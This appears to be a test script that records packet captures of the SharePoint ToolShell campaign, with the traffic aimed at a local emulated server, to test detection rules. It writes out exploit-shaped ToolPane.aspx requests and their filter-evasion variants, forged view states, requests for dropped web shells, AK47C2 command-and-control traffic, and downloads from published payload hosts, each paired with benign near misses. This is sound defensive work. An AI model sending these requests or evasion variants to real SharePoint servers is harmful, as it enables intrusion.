#!/bin/bash
# toolshell.sh [CASE ...] — captures of the SharePoint ToolShell campaign, pcaps/toolshell/.
#
# clients   curl, dig, raw.py        server  server.py as IIS with SharePoint, dnsmasq
# source    rules/toolshell.yaml cites what the shapes follow
PCAPS=toolshell
. "$(dirname "$0")/lib.sh"
sc_up

FIREFOX='Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0'
EDGE='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36 Edg/138.0.0.0'
HOST=sp.corp.example
B=http://$HOST
FORM='Content-Type: application/x-www-form-urlencoded'
SPOKE="$CURL_V as the client, tools/capture/server.py ($PY_V) answering as IIS 10 with SharePoint headers"
sp() { web --resolve "$HOST:80:$RIGHT" -A "$FIREFOX" "$@"; }
$SHAPES toolpane-form >"$SC_TMP/form"
$SHAPES toolpane-form large >"$SC_TMP/form-large"
$SHAPES toolpane-form string >"$SC_TMP/form-string"
QUERY='DisplayMode=Edit&a=/ToolPane.aspx'
exploit() { local url=$1 referer=$2; shift 2; sp -H "Referer: $referer" -H "$FORM" --data-binary "@$SC_TMP/form" "$@" "$B$url"; }
serve right 80 "$PY" "$SC_HERE/server.py" sharepoint 80

if wants classic; then
  begin classic
  exploit "/_layouts/15/ToolPane.aspx?$QUERY" /_layouts/SignOut.aspx
  end
  note "ToolShell: the request as first seen" \
    "one POST to ToolPane.aspx with a relative SignOut Referer; form with MSOTlPn_Uri and MSOTlPn_DWP, whose CompressedDataTable names a type that does not exist" \
    "$SPOKE" "toolshell.toolpane-signout, toolshell.exceldataset, toolshell.dataset-gadget and toolshell.register-blank once each" "anything about keys, view state or command and control"
fi

if wants path-variants; then
  begin path-variants
  for p in "/_layouts/15/ToolPane.aspx/?$QUERY" "/_layouts/15/ToolPane.aspx/xkqvbzrtla?$QUERY" "/_layouts/16/ToolPane.aspx?$QUERY" \
      "/_layouts/ToolPane.aspx?$QUERY" "/sites/hr/_layouts/15/toolpane.aspx?a=1&DisplayMode=Edit&x=/toolpane.aspx" \
      "/%5Flayouts/15/Tool%50ane%2Easpx?$QUERY" "/_layouts/15/../15/./ToolPane.aspx?$QUERY" "//_layouts//15/TOOLPANE.ASPX?$QUERY"; do
    exploit "$p" /_layouts/SignOut.aspx
  done
  end
  note "ToolShell: the same page by other names" \
    "eight requests: trailing slash and trailing segment (CVE-2025-53771), /16/, no version, below a site and lower case, percent-encoding, dot segments, double slashes and upper case" \
    "$SPOKE" "toolshell.toolpane-signout eight times, with toolshell.exceldataset, toolshell.dataset-gadget and toolshell.register-blank for the form of each" "-"
fi

if wants referer-variants; then
  begin referer-variants
  for r in "https://$HOST/_layouts/SignOut.aspx" /_layouts/15/SignOut.aspx /_layouts/14/signout.aspx SignOut.aspx ../SignOut.aspx \
      "/_layouts/x/../SignOut.aspx?ReturnUrl=%2F" "//other.example/_layouts/SignOut.aspx#top" "/_layouts/Sign%4Fut.aspx"; do
    exploit "/_layouts/15/ToolPane.aspx?$QUERY" "$r"
  done
  end
  note "ToolShell: the Referer in other forms" \
    "eight requests whose Referer gives the sign-out page only after resolution against the request: absolute, other hives, relative, dot segments with a query, other authority with a fragment, percent-encoded letter" \
    "$SPOKE" "toolshell.toolpane-signout eight times, with toolshell.exceldataset, toolshell.dataset-gadget and toolshell.register-blank for the form of each" "-"
fi

if wants referer-near; then
  begin referer-near
  for r in "https://$HOST/SitePages/Home.aspx?from=/_layouts/SignOut.aspx" /docs/_layouts-SignOut.aspx.html "https://$HOST/_layouts/15/SignOut.aspx.txt"; do
    sp -A "$EDGE" -H "Referer: $r" -H 'Cookie: FedAuth=inert' -H "$FORM" --data-urlencode "MSOTlPn_Uri=$($SHAPES control)" \
      --data-urlencode 'MSOTlPn_DWP=<%@ Register Tagprefix="WebPartPages" Namespace="Microsoft.SharePoint.WebPartPages" Assembly="Microsoft.SharePoint" %><WebPartPages:ContentEditorWebPart runat="server" Title="News" />' \
      "$B/_layouts/15/ToolPane.aspx?$QUERY"
  done
  end
  note "Near miss: sign-out page only mentioned in the Referer" \
    "three edits of a page whose Referer has the sign-out path in its query, in another file name, or as a prefix; the web part is an ordinary one" \
    "$SPOKE" "-" "every rule of toolshell"
fi

if wants dataset-plain; then
  begin dataset-plain
  sp -A "$EDGE" -H "Referer: $B/SitePages/Scorecards.aspx" -H 'Cookie: FedAuth=inert; rtFa=inert' -H "$FORM" --data-binary "@$SC_TMP/form-string" \
    "$B/_layouts/15/ToolPane.aspx?DisplayMode=Edit"
  end
  note "A scorecard's data set from a signed-in editor" \
    "the form with an ordinary DataSet (column type System.String), no blank after the namespace, cookies, the edited page as Referer" \
    "$SPOKE" "toolshell.exceldataset once: the control is the sink of the attack whoever sends it, and pages with it are rare" "toolshell.toolpane-signout, toolshell.register-blank"
fi

if wants chunked-gzip; then
  begin chunked-gzip
  $SHAPES gzip <"$SC_TMP/form-large" >"$SC_TMP/form.gz"
  sp -H "Referer: /_layouts/SignOut.aspx" -H "$FORM" -H 'Transfer-Encoding: chunked' -H 'Content-Encoding: gzip' \
    --data-binary "@$SC_TMP/form.gz" "$B/_layouts/15/ToolPane.aspx?$QUERY"
  end
  note "ToolShell: body chunked and compressed" "the request with Transfer-Encoding: chunked and Content-Encoding: gzip on the form" \
    "$SPOKE" "toolshell.toolpane-signout once; toolshell.exceldataset, toolshell.dataset-gadget and toolshell.register-blank once, which takes dechunking and gunzip" "-"
fi

if wants multipart; then
  begin multipart
  $SHAPES dwp >"$SC_TMP/dwp"
  sp -H "Referer: /_layouts/SignOut.aspx" -F "MSOTlPn_Uri=$($SHAPES control)" -F "MSOTlPn_DWP=<$SC_TMP/dwp" "$B/_layouts/15/ToolPane.aspx?$QUERY"
  end
  note "ToolShell: form as multipart/form-data" "the same two parameters as multipart parts" \
    "$SPOKE" "toolshell.toolpane-signout, toolshell.exceldataset, toolshell.dataset-gadget and toolshell.register-blank once each" "-"
fi

if wants charset; then
  begin charset
  $SHAPES form-in cp037 >"$SC_TMP/form.ibm"
  $SHAPES multipart-in utf-16-le >"$SC_TMP/form.wide"
  sp -H 'Referer: /_layouts/SignOut.aspx' -H "$FORM; charset=ibm037" --data-binary "@$SC_TMP/form.ibm" "$B/_layouts/15/ToolPane.aspx?$QUERY"
  sp -H 'Referer: /_layouts/SignOut.aspx' -H 'Content-Type: multipart/form-data; charset=utf-16; boundary=Inert7f3a' \
    --data-binary "@$SC_TMP/form.wide" "$B/_layouts/15/ToolPane.aspx?$QUERY"
  sp -A 'UP.Inert' -H 'x-up-devcap-post-charset: ibm500' "$B/_layouts/15/start.aspx?$($SHAPES viewstate-in cp500)"
  end
  note "ToolShell: forms in charsets filters do not read" \
    "the form with names and values in IBM037, then as multipart in UTF-16, then a view state in a query in IBM500, which only a header for telephones names; ASP.NET reads all three" \
    "$SPOKE" "toolshell.toolpane-signout, toolshell.exceldataset, toolshell.dataset-gadget and toolshell.register-blank twice each, toolshell.viewstate-gadget once, toolshell.form-charset three times" "-"
fi

if wants charset-near; then
  begin charset-near
  sp -A "$EDGE" -H "$FORM; charset=shift_jis" --data 'Title=%83e%83X%83g&__VIEWSTATE=%2FwEPZGQ%3D' "$B/Lists/News/NewForm.aspx"
  sp -A "$EDGE" -H "$FORM; charset=utf-8" --data 'note=charset%3Dibm037&Title=utf-16' "$B/Lists/News/NewForm.aspx"
  web --resolve "app.example.org:80:$RIGHT" -H 'Content-Type: text/plain; charset=utf-16' --data-binary 'inert' http://app.example.org/notes
  end
  note "Near miss: charsets of ordinary forms" "a form in Shift JIS, one that only mentions charsets, and a text in UTF-16 sent to another program" \
    "$SPOKE" "-" "every rule of toolshell"
fi

if wants expect-continue; then
  begin expect-continue
  sp -H 'Referer: /_layouts/SignOut.aspx' -H "$FORM" -H 'Expect: 100-continue' --data-binary "@$SC_TMP/form-large" "$B/_layouts/15/ToolPane.aspx?$QUERY"
  end
  note "ToolShell: body after 100 Continue" "the client waits for 100 Continue before it sends the form" \
    "$SPOKE" "toolshell.toolpane-signout, toolshell.exceldataset, toolshell.dataset-gadget and toolshell.register-blank once each" "-"
fi

if wants pipelined; then
  begin pipelined
  {
    for p in / /_layouts/15/start.aspx; do printf 'GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n\r\n' "$p" $HOST "$FIREFOX"; done
    printf 'POST /_layouts/15/ToolPane.aspx?%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nReferer: /_layouts/SignOut.aspx\r\n%s\r\nContent-Length: %s\r\n\r\n' \
      "$QUERY" $HOST "$FIREFOX" "$FORM" "$(stat -c %s "$SC_TMP/form")"
    cat "$SC_TMP/form"
    printf 'GET /_layouts/15/spinstall0.aspx HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nConnection: close\r\n\r\n' $HOST "$FIREFOX"
  } >"$SC_TMP/pipe"
  left "$PY" "$SC_HERE/raw.py" $RIGHT 80 "$SC_TMP/pipe"
  end
  note "ToolShell: third and fourth of four pipelined requests" \
    "four requests in one write: home page, start page, the exploit, the key page" \
    "tools/capture/raw.py ($PY_V), server.py" \
    "toolshell.toolpane-signout, toolshell.exceldataset, toolshell.dataset-gadget and toolshell.register-blank once (request 3), toolshell.machinekey-leak, toolshell.drop-name and toolshell.drop-served once (request 4), and toolshell.takeover once" "-"
fi

if wants split; then
  begin split
  {
    printf 'POST /_layouts/15/ToolPane.aspx?%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nReferer: /_layouts/SignOut.aspx\r\n%s\r\nContent-Length: %s\r\nConnection: close\r\n\r\n' \
      "$QUERY" $HOST "$FIREFOX" "$FORM" "$(stat -c %s "$SC_TMP/form")"
    cat "$SC_TMP/form"
  } >"$SC_TMP/split"
  left "$PY" "$SC_HERE/raw.py" $RIGHT 80 "$SC_TMP/split" 1 11
  end
  note "ToolShell: eleven bytes per segment" "the classic request written eleven bytes at a time, no delay of small segments" \
    "tools/capture/raw.py ($PY_V), server.py" "toolshell.toolpane-signout, toolshell.exceldataset, toolshell.dataset-gadget and toolshell.register-blank once each" "-"
fi

if wants patched; then
  begin patched
  exploit "/_layouts/15/ToolPane.aspx?$QUERY" /_layouts/SignOut.aspx -H 'X-Test-Answer: 401'
  exploit "/_layouts/15/ToolPane.aspx?$QUERY" /_layouts/SignOut.aspx -H 'X-Test-Answer: nuclei'
  end
  note "ToolShell: a refused attempt and a scanner that succeeds" \
    "first request answered 401 as a patched server does, second answered with the response header that a public scanner template asks for" \
    "$SPOKE" "toolshell.toolpane-signout, toolshell.exceldataset, toolshell.dataset-gadget and toolshell.register-blank twice each, toolshell.scanner-marker once" "-"
fi

if wants toolpane-benign; then
  begin toolpane-benign
  sp -A "$EDGE" -H "Referer: $B/SitePages/Home.aspx?PageView=Shared&DisplayMode=Edit" -H 'Cookie: FedAuth=inert; rtFa=inert' -H "$FORM" \
    --data 'MSOTlPn_View=2&MSOTlPn_ShowSettings=False&MSOTlPn_SelectedWpId=g_6b1c&MSOTlPn_Button=apply' \
    "$B/_layouts/15/ToolPane.aspx?DisplayMode=Edit&ToolPaneView=2&pagetype=1"
  sp -A "$EDGE" -H "Referer: $B/SitePages/Home.aspx" -H 'Cookie: FedAuth=inert; rtFa=inert' "$B/_layouts/15/ToolPane.aspx?ToolPaneView=2"
  end
  note "Near miss: a signed-in editor uses the tool pane" \
    "POST and GET of ToolPane.aspx with cookies and the edited page as Referer" "$SPOKE" "-" "every rule of toolshell"
fi

if wants signout-benign; then
  begin signout-benign
  sp -A "$EDGE" -H "Referer: $B/SitePages/Home.aspx" -H 'Cookie: FedAuth=inert' "$B/_layouts/15/SignOut.aspx"
  for p in /_layouts/15/1033/styles/corev15.css /_layouts/15/init.js; do sp -A "$EDGE" -H "Referer: $B/_layouts/15/SignOut.aspx" "$B$p"; done
  sp -A "$EDGE" -H "Referer: $B/_layouts/15/SignOut.aspx" "$B/_layouts/15/start.aspx"
  end
  note "Near miss: browsing after signing out" \
    "the sign-out page, its style sheet and script, and the start page reached from it, all with the sign-out page as Referer" \
    "$SPOKE" "-" "every rule of toolshell"
fi

if wants signout-other; then
  begin signout-other
  sp -H 'Referer: /_layouts/SignOut.aspx' -H 'Content-Type: text/xml' --data '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"/>' \
    "$B/_vti_bin/WebPartPages.asmx"
  sp -H 'Referer: /_layouts/15/SignOut.aspx' "$B/_api/web/currentuser"
  end
  note "ToolShell: the same Referer on other endpoints" \
    "POST to a web service and GET of the REST interface with the sign-out Referer and no credentials" \
    "$SPOKE" "toolshell.signout-elsewhere twice" "toolshell.toolpane-signout"
fi

if wants drop-names; then
  begin drop-names
  sp "$B/_layouts/15/ghostfile93.aspx"
  sp "$B/_layouts/16/spinstall2.aspx"
  sp -H "Referer: /_layouts/SignOut.aspx" "$B/_layouts/15/spinstall0.aspx"
  sp "$B/SiteAssets/my-spinstall0.aspx.txt"
  end
  note "ToolShell: dropped pages asked for by name" \
    "three published names under the layouts folder (404, 404, 200 with fake keys) and one name that only contains one" \
    "$SPOKE" "toolshell.drop-name three times, toolshell.drop-served once, toolshell.machinekey-leak once" "toolshell.drop-name for the fourth request"
fi

if wants key-leak; then
  begin key-leak
  sp "$B/_layouts/15/help-a1.aspx"
  sp "$B/_layouts/15/debug_dev.js"
  sp "$B/_layouts/15/ToolPane.aspx?DisplayMode=Edit" -H 'X-Test-Answer: keys'
  end
  note "ToolShell: machine keys leave the server" \
    "made-up keys in three forms: the five-field line under an unknown name (gzip and chunked), a web.config's machineKey element, the line at the start of an ordinary answer" \
    "$SPOKE" "toolshell.machinekey-leak three times, toolshell.drop-name and toolshell.drop-served for the second request" "toolshell.drop-name for the first: it has no known name"
fi

if wants key-docs; then
  begin key-docs
  sp "$B/help/machinekey.aspx"
  end
  note "Near miss: a page about machine keys" "documentation with AutoGenerate and placeholders instead of keys, and the words of the leak line without the digits" \
    "$SPOKE" "-" "toolshell.machinekey-leak"
fi

post_viewstate() { $SHAPES viewstate-form "$@" >"$SC_TMP/vs"; sp -H "$FORM" --data-binary "@$SC_TMP/vs" "$B/_layouts/15/success.aspx"; }
viewstate_case() { # case, title, shows, fires, silent, shapes arguments...
  local name=$1 title=$2 shows=$3 fires=$4 silent=$5
  shift 5
  wants "$name" || return 0
  begin "$name"
  post_viewstate "$@"
  end
  note "$title" "$shows" "$SPOKE" "$fires" "$silent"
}
CUT="a .NET stream that stops after the name of a class attackers use"
viewstate_case viewstate-root "View state: binary object at the root" "token 0x32 first, in it $CUT; 20 bytes of made-up MAC" \
  "toolshell.viewstate-gadget once" "-" root
viewstate_case viewstate-sha256 "View state: binary object at the root, 32-byte MAC" "as viewstate-root with the tail of HMACSHA256" \
  "toolshell.viewstate-gadget once" "-" sha256
viewstate_case viewstate-nested "View state: binary object inside a Pair" "the object below Pair, Pair and ArrayList, so that the value does not begin with /wEy; $CUT" \
  "toolshell.viewstate-gadget once" "-" nested
viewstate_case viewstate-list "View state: binary object inside an ArrayList" "the object as first element of a list; $CUT" \
  "toolshell.viewstate-gadget once" "-" list
viewstate_case viewstate-chunks "View state in three fields" "__VIEWSTATEFIELDCOUNT 3; the base64 is cut at places that are no multiples of four; $CUT" \
  "toolshell.viewstate-gadget once" "-" root A4E1B2C3 3
viewstate_case viewstate-large "View state over 16 KiB" "length of the object in three bytes, so base64 alignment is another one; $CUT, then filler" \
  "toolshell.viewstate-gadget once" "-" large
viewstate_case viewstate-encrypted "View state that cannot be read" "random bytes and __VIEWSTATEENCRYPTED, sent by the client without the page having it" \
  "nothing that leaves: toolshell.viewstate-opaque is a mark" "toolshell.viewstate-gadget, toolshell.keys-used" opaque A4E1B2C3 1 __VIEWSTATEENCRYPTED=
# A form as the last page was, with a view state that cannot be read.
opaque() { $SHAPES viewstate-form opaque >"$SC_TMP/opaque"; sp -A "$EDGE" -H "$FORM" --data-binary "@$SC_TMP/opaque" "$B$1"; }
if wants viewstate-served; then
  begin viewstate-served
  for n in 1 2 3; do sp -A "$EDGE" "$B/Lists/L$n/AllItems.aspx"; done
  opaque /Lists/L1/AllItems.aspx
  end 2025-07-20T09:00:00Z
  note "View state that cannot be read, on a server that sends readable ones" "three pages with view state in clear (in gzip, in chunks), then a form with bytes that look random in its place" \
    "$SPOKE" "toolshell.viewstate-not-served once" "toolshell.viewstate-turned"
fi
if wants viewstate-served-near; then
  begin viewstate-served-near
  for n in 1 2 3; do sp -A "$EDGE" "$B/Lists/L$n/Secret.aspx"; done
  opaque /Lists/L1/Secret.aspx
  sp -A "$EDGE" "$B/Lists/L1/AllItems.aspx"
  opaque /Lists/L1/Secret.aspx
  end 2025-07-20T09:10:00Z
  note "Near miss: a server that encrypts view state" "three pages whose view state is encrypted, and a form with one; then one page in clear, and the form again" \
    "$SPOKE" "-" "every rule of toolshell but marks"
fi
if wants viewstate-turned; then
  begin viewstate-turned
  for i in 1 2 3; do post_viewstate benign CA11AB1E; post_viewstate hashtable; done
  post_viewstate opaque A4E1B2C3 1 __VIEWSTATEENCRYPTED=
  end
  note "View state that cannot be read, on a server where it can be" \
    "six ordinary view states, three of them with a harmless object, then random bytes with __VIEWSTATEENCRYPTED" \
    "$SPOKE" "toolshell.viewstate-turned once, at the last request" "toolshell.viewstate-gadget, toolshell.keys-used"
fi
viewstate_case viewstate-benign "Near miss: view state of a SharePoint page" \
  "a complete graph of Pair, ArrayList, indexed strings and SPControlMode as IntEnum, with the usual other fields of the form" \
  "-" "every rule of toolshell" benign CA11AB1E 1 'MSOWebPartPage_Shared=&MSOLayout_InDesignMode=&__EVENTTARGET=&__EVENTARGUMENT=&_wzSelected='
viewstate_case viewstate-unknown "View state with an object of an unknown class" \
  "token 0x32 deep in the graph, in it a .NET stream that stops after the name of a class that does not exist" \
  "toolshell.viewstate-binary once" "toolshell.viewstate-gadget" unknown
viewstate_case viewstate-hashtable "Near miss: a harmless Hashtable as binary object" \
  "token 0x32 deep in the graph holding a complete empty System.Collections.Hashtable" \
  "-" "every rule of toolshell" hashtable

if wants viewstate-query; then
  begin viewstate-query
  sp "$B/_layouts/15/success.aspx?$($SHAPES viewstate-form root)"
  end
  note "View state in the query of a GET" "the forged value as a parameter of the query; $CUT" "$SPOKE" "toolshell.viewstate-gadget once" "-"
fi
if wants viewstate-multipart; then
  begin viewstate-multipart
  $SHAPES viewstate root >"$SC_TMP/vsraw"
  sp -F "__VIEWSTATE=<$SC_TMP/vsraw" -F __VIEWSTATEGENERATOR=A4E1B2C3 "$B/_layouts/15/success.aspx"
  end
  note "View state in a multipart form" "the forged value as a multipart part; $CUT" "$SPOKE" "toolshell.viewstate-gadget once" "-"
fi
if wants adjacent; then
  begin adjacent
  sp -H "$FORM" --data-urlencode "__SUGGESTIONSCACHE__=<DataSet>inert</DataSet>" "$B/_layouts/15/quicklinks.aspx?Mode=Suggestion"
  sp -H "$FORM" --data-urlencode 'wa=wsignin1.0' --data-urlencode 'wctx=inert' \
    --data-urlencode 'wresult=<t:RequestSecurityTokenResponse xmlns:t="http://schemas.xmlsoap.org/ws/2005/02/trust"><c:SecurityContextToken xmlns:c="http://docs.oasis-open.org/ws-sx/ws-secureconversation/200512"><Cookie xmlns="http://schemas.microsoft.com/ws/2006/05/security">aW5lcnQ=</Cookie></c:SecurityContextToken></t:RequestSecurityTokenResponse>' \
    "$B/_trust/default.aspx"
  sp -H "$FORM" --data-urlencode 'wa=wsignin1.0' --data-urlencode 'wctx=inert' \
    --data-urlencode 'wresult=<t:RequestSecurityTokenResponse xmlns:t="http://schemas.xmlsoap.org/ws/2005/02/trust"><t:RequestedSecurityToken><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion"/></t:RequestedSecurityToken></t:RequestSecurityTokenResponse>' \
    "$B/_trust/default.aspx"
  end
  note "SharePoint: neighbours of the campaign" \
    "a suggestions cache posted to quicklinks.aspx (CVE-2020-1147), a sign-in answer that carries a security context token with a cookie (CVE-2026-50522), and an ordinary SAML sign-in" \
    "$SPOKE" "toolshell.suggestions-cache once, toolshell.trust-cookie once" "anything for the third request"
fi
unserve

# --- command and control -------------------------------------------------------------------------------------------
DNSMASQ_V=$(dnsmasq --version | sed -n '1s/Dnsmasq version \([^ ]*\).*/dnsmasq \1/p')
DIG_V=$(dig -v 2>&1 | sed 's/^DiG /dig /; s/-.*//')
N3=$($SHAPES ak47-name 202503) N4=$($SHAPES ak47-name 202504) ANSWER=$($SHAPES ak47-answer)
AK47=update.updatemicfosoft.com
T4=$($SHAPES ak47-fields 1 t) P4=$($SHAPES ak47-fields 1 parts) Q4=$($SHAPES ak47-fields 1 one)
cat >"$SC_TMP/dns.conf" <<END
no-resolv
no-hosts
no-daemon
user=root
port=53
bind-interfaces
listen-address=$RIGHT
local=/updatemicfosoft.com/
local=/example.net/
txt-record=$N3,"$ANSWER"
txt-record=$N4,"$ANSWER"
dns-rr=$N4,8,$(printf '%s' "$ANSWER" | xxd -p | tr -d '\n' | cut -c1-200)
txt-record=$T4,$($SHAPES ak47-text 'inert --all')
dns-rr=$T4,8,$($SHAPES wire-name "$($SHAPES ak47-text 'inert --all').$AK47")
$($SHAPES ak47-parts task | sed "s/^/txt-record=$P4,/")
txt-record=$Q4,$($SHAPES ak47-parts task | paste -sd, -)
$($SHAPES ak47-parts task names | while read -r n; do echo "dns-rr=$P4,8,$($SHAPES wire-name "$n")"; done)
txt-record=parts.example.net,sk3v9qt0003p0001,st0003p0001,start0002p0001abcdef
address=/update.updatemicfosoft.com/131.226.2.6
address=/updatemicfosoft.example.net/192.0.2.9
address=/notupdatemicfosoft.com/192.0.2.10
txt-record=67616263646566.example.net,"inert"
END
ask() { left dig +time=2 +tries=1 +noedns @$RIGHT "$@" >/dev/null || true; }

serve right 53 dnsmasq -C "$SC_TMP/dns.conf" --pid-file="$SC_TMP/dnsmasq.pid"
if wants ak47-dns; then
  begin ak47-dns
  ask "$N3" TXT
  ask "$N4" TXT
  ask "$N4" TYPE8
  ask update.updatemicfosoft.com A
  end 2025-07-22T08:00:00Z
  note "AK47C2 over DNS" \
    "TXT queries in the two published codings (XOR with the published key, hex labels) with an empty command as answer, an MG query, and an address query of the published name" \
    "$DIG_V, $DNSMASQ_V" "toolshell.ak47-dns for the coded names, toolshell.ak47-host once, toolshell.ak47-command twice, toolshell.mg-query once, toolshell.name-dns for all four names" "-"
fi
if wants ak47-mg; then
  begin ak47-mg
  ask "$T4" TYPE8
  ask "$P4" TYPE8
  end 2025-07-22T08:02:00Z
  note "AK47C2 over DNS: answers in MG records" \
    "two tasks asked for with MG queries: the first is answered with one name that is the coded command, the second with the parts of a long one, a record each" \
    "$DIG_V, $DNSMASQ_V" "toolshell.ak47-dns, toolshell.name-dns twice, toolshell.ak47-host once, toolshell.mg-query once, toolshell.ak47-command twice, with the commands in clear" "-"
fi
if wants ak47-fields; then
  begin ak47-fields
  ask "$T4" TXT
  ask "$($SHAPES ak47-fields 2 'inert result')" TXT
  end 2025-07-22T08:04:00Z
  note "AK47C2 over DNS: version 202504, task and result" "a task's name whose TXT answer is the coded command, then a name with a result behind the host" \
    "$DIG_V, $DNSMASQ_V" "toolshell.ak47-dns and toolshell.name-dns twice, toolshell.ak47-host once, toolshell.ak47-command twice: command, then result, in clear" "-"
fi
if wants ak47-parts; then
  begin ak47-parts
  ask "$P4" TXT
  ask "$Q4" TXT +bufsize=4096 +tcp
  for n in $($SHAPES ak47-parts result names | tac); do ask "$n" TXT; done
  for n in $($SHAPES ak47-parts plain coded); do ask "$n" TXT; done
  end 2025-07-22T08:06:00Z
  note "AK47C2 over DNS: messages in parts" \
    "a command in several TXT records in whatever order the server gives them, then in several strings of one record; a result in names from the last part to the first; another whose markers are coded" \
    "$DIG_V, $DNSMASQ_V" "toolshell.ak47-dns and toolshell.name-dns for each name, toolshell.ak47-host, toolshell.ak47-command four times, whole and in clear" "-"
fi
if wants ak47-parts-near; then
  begin ak47-parts-near
  ask parts.example.net TXT
  ask start0001p0001.example.net A
  ask sk3v9qt0001p0001.example.net A
  ask sk3v9qt0003p0001.mail.example.net A
  ask s3v9qt0003p0001.6162.example.net A
  end 2025-07-22T08:08:00Z
  note "Near miss: names and texts like parts of a message" "markers without a part, with words behind them, and with a session too short" \
    "$DIG_V, $DNSMASQ_V" "-" "every rule of toolshell"
fi
if wants ak47-dns-near; then
  begin ak47-dns-near
  ask updatemicfosoft.example.net A
  ask notupdatemicfosoft.com A
  ask 67616263646566.example.net TXT
  ask d41d8cd98f00b204e9800998ecf8427e.avqs.example.net TXT
  end 2025-07-22T08:10:00Z
  note "Near miss: names that look like AK47C2" "the published name as a label of another domain, as the end of a longer label, and hex labels of other services" \
    "$DIG_V, $DNSMASQ_V" "-" "every rule of toolshell"
fi
unserve

serve right 80 "$PY" "$SC_HERE/server.py" ak47 80
if wants ak47-http; then
  begin ak47-http
  $SHAPES ak47-http >"$SC_TMP/ak"
  web --resolve update.updatemicfosoft.com:80:$RIGHT -A '' -H 'Content-Type: text/plain' --data-binary "@$SC_TMP/ak" http://update.updatemicfosoft.com/
  web -A '' -H 'Content-Type: text/plain' --data-binary "@$SC_TMP/ak" "http://$RIGHT/"
  end 2025-07-22T08:20:00Z
  note "AK47C2 over HTTP" "the JSON beacon XORed and in hex as text/plain, once to the published name and once to a bare address" \
    "$CURL_V, server.py" "toolshell.ak47-http twice, toolshell.ak47-host once, toolshell.ak47-command twice, toolshell.name-http once" "-"
fi
if wants ak47-http-near; then
  begin ak47-http-near
  printf '2d6a2129246a6c6b606862' >"$SC_TMP/near"
  web -H 'Content-Type: text/plain' --data-binary "@$SC_TMP/near" "http://$RIGHT/log"
  sha256sum <"$SC_TMP/near" | cut -c1-64 >"$SC_TMP/near2"
  web -H 'Content-Type: text/plain' --data-binary "@$SC_TMP/near2" "http://$RIGHT/metrics"
  end 2025-07-22T08:30:00Z
  note "Near miss: hex bodies" "a body with only the first bytes of the constant and a digest as text/plain" "$CURL_V, server.py" "-" "toolshell.ak47-http"
fi
if wants known-addresses; then
  left_ip 107.191.58.76; right_ip 131.226.2.6
  begin known-addresses
  web --interface 107.191.58.76 -A "$FIREFOX" "http://$RIGHT/_layouts/15/start.aspx"
  web -A "$EDGE" "http://131.226.2.6/"
  end 2025-07-19T05:00:00Z
  note "ToolShell: published addresses" "a SharePoint page asked for by a published exploit source, and a flow to a published C2 address" "$CURL_V, server.py" \
    "toolshell.known-source once, toolshell.known-c2 once; in live use only until the indicators expire" "-"
fi
if wants known-expired; then
  SC_CASE=known-expired
  say toolshell/known-expired
  left_ip 107.191.58.76; right_ip 131.226.2.6
  rec "$SC_TMP/x1.raw"
  web --interface 107.191.58.76 -A "$FIREFOX" "http://$RIGHT/_layouts/15/start.aspx"
  web -A "$EDGE" "http://131.226.2.6/"
  rec_end
  rec "$SC_TMP/x2.raw"
  web --resolve ice.theinnovationfactory.it:80:$RIGHT -A '' http://ice.theinnovationfactory.it/
  rec_end
  "$PY" "$SC_HERE/settle.py" -o "$SC_TOP/pcaps/toolshell/known-expired.pcap" 2025-10-31T00:00:01Z "$SC_TMP/x1.raw" 2026-12-31T00:00:01Z "$SC_TMP/x2.raw"
  note "Near miss: published addresses and hosts after their time" \
    "the flows of known-addresses one second after those indicators expired, and a delivery host one second after it did" \
    "$CURL_V, server.py; recorded one after the other, times set to the pieces" "-" "toolshell.known-source, toolshell.known-c2, toolshell.name-http"
fi
if wants payload-hosts; then
  begin payload-hosts
  web --resolve ice.theinnovationfactory.it:80:$RIGHT -A '' http://ice.theinnovationfactory.it/static/4l4md4r.exe
  web --resolve c34718cbb4c6.ngrok-free.app:80:$RIGHT -A 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.17763.1' http://c34718cbb4c6.ngrok-free.app/file.ps1
  web --resolve www.theinnovationfactory.it:80:$RIGHT -A "$EDGE" http://www.theinnovationfactory.it/
  web --resolve a1b2c3d4.ngrok-free.app:80:$RIGHT -A "$EDGE" http://a1b2c3d4.ngrok-free.app/
  end 2025-07-27T06:00:00Z
  note "ToolShell: where payloads came from" \
    "the two published delivery hosts, then the innocent parent domain and another tunnel of the same provider" \
    "$CURL_V, server.py" "toolshell.name-http twice, toolshell.payload-file once (the file is listed for this test)" "anything for the last two requests"
fi
unserve

if wants name-tls; then
  openssl req -x509 -newkey rsa:2048 -nodes -keyout "$SC_TMP/k" -out "$SC_TMP/c" -days 30 -subj /CN=inert.example 2>/dev/null
  serve right 443 openssl s_server -accept 443 -cert "$SC_TMP/c" -key "$SC_TMP/k" -quiet -rev
  begin name-tls
  for n in msupdate.updatemicfosoft.com royal-boat-bf05.qgtxtebl.workers.dev qgtxtebl.workers.dev updatemicfosoft.com.example.net; do
    { printf inert; sleep 0.2; } | left openssl s_client -connect "$RIGHT:443" -quiet -no_ign_eof -servername "$n" >/dev/null 2>&1 || true
  done
  end 2025-07-22T08:40:00Z
  unserve
  note "ToolShell: names in TLS" "a name below the C2 domain and a staging host, then the staging host's parent and a near name" \
    "openssl s_client and s_server, $SSL_V" "toolshell.name-tls twice" "toolshell.name-tls for the last two"
fi

if wants keys-used; then
  SC_CASE=keys-used
  say toolshell/keys-used
  left_ip 10.77.1.67
  serve right 80 "$PY" "$SC_HERE/server.py" sharepoint 80
  rec "$SC_TMP/k1.raw"
  sp "$B/_layouts/15/help-a1.aspx"
  rec_end
  rec "$SC_TMP/k2.raw"
  $SHAPES viewstate-form opaque A4E1B2C3 1 __VIEWSTATEENCRYPTED= >"$SC_TMP/vs"
  sp --interface 10.77.1.67 -H "$FORM" --data-binary "@$SC_TMP/vs" "$B/_layouts/15/start.aspx"
  rec_end
  unserve
